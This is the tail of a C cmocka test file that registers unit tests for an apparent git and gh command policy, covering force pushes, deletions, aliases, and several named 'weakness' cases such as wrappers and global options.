        cmocka_unit_test(test_git_push_tags),
        cmocka_unit_test(test_git_push_force),
        cmocka_unit_test(test_git_push_deletes),
        cmocka_unit_test(test_git_reads),
        cmocka_unit_test(test_git_aliases_and_rewrites),
        cmocka_unit_test(test_unreadable_commands),
        cmocka_unit_test(test_segment_is_truncated_to_60_chars),
        cmocka_unit_test(test_gh_groups),
        cmocka_unit_test(test_gh_api),
        cmocka_unit_test(test_weakness_git_C_dir_push_force),
        cmocka_unit_test(test_weakness_git_c_push_force),
        cmocka_unit_test(test_weakness_git_global_options),
        cmocka_unit_test(test_weakness_absolute_path_to_git_and_gh),
        cmocka_unit_test(test_weakness_gh_R_other_repo_delete),
        cmocka_unit_test(test_weakness_nohup_dashdash_git_push),
        cmocka_unit_test(test_weakness_unmodelled_wrappers_and_subshells),
        cmocka_unit_test(test_most_restrictive_wins),
        cmocka_unit_test(test_custom_deny_reason),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
